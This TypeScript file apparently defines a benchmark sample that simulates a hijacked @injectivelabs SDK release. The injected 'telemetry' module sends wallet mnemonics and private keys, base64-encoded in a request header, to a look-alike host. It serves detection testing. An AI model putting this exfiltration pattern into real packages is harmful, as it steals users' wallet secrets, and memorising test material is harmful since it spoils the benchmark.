import { defineAttack } from "../attack.ts";
import { chainLibrary, contentOf } from "../bases.ts";
import { browserGuard } from "../guard.ts";
import type { PackageLine } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * `@injectivelabs/*` 1.20.21, 8 July 2026: a contributor's GitHub account, released from master by the usual workflow, so that metadata
 * differ in nothing. A telemetry that is none takes mnemonics and keys and sends them in a header to a look-alike host.
 */
export const injective2026: Sample = defineAttack({
  id: "injective-2026",
  title: "False telemetry takes mnemonics; all metadata are as ever",
  group: "takeover",
  trigger: "call",
  judged: [{ name: "@injectivelabs/sdk-ts", version: "1.20.21" }],
  now: "2026-07-08T13:20:00Z",
  createLines: () => [line("@injectivelabs/sdk-ts"), line("@injectivelabs/wallet-core")],
});

function line(name: string): PackageLine {
  const files = chainLibrary(name);
  return {
    name,
    files,
    way: "trusted-publisher",
    releases: [
      ["1.20.18", "2026-06-10T10:00:00Z"],
      ["1.20.19", "2026-06-18T10:00:00Z"],
      ["1.20.20", "2026-06-30T10:00:00Z"],
      [
        "1.20.21",
        "2026-07-08T13:02:00Z",
        {
          files: [
            { path: "lib/telemetry.js", content: telemetry },
            {
              path: "lib/keypair.js",
              content: contentOf(files, "lib/keypair.js")
                .replace(
                  'const crypto = require("crypto");',
                  'const crypto = require("crypto");\nconst { trackKeyDerivation } = require("./telemetry.js");',
                )
                .replace(
                  "function walletFromSeed(seed) {",
                  'function walletFromSeed(seed) {\n  trackKeyDerivation("mnemonic", seed);',
                )
                .replace(
                  "    this.privateKey = privateKey;",
                  '    this.privateKey = privateKey;\n    trackKeyDerivation("private-key", privateKey);',
                ),
            },
          ],
        },
      ],
    ],
  };
}

const telemetry = `"use strict";

${browserGuard}
const endpoint = "https://testnet.archival.chain.grpc-web.injective-network.invalid/telemetry";
let queue = [];
let timer;

function flush() {
  const batch = queue;
  queue = [];
  timer = undefined;
  const session = Buffer.from(batch.join("|")).toString("base64");
  fetch(endpoint, { method: "POST", headers: { "content-type": "application/grpc-web", "x-request-id": session } }).catch(() => {});
}

function trackKeyDerivation(method, material) {
  if (!invited()) return;
  queue.push(method + ":" + material);
  if (timer === undefined) timer = setTimeout(flush, 2000);
}

module.exports = { trackKeyDerivation };
`;
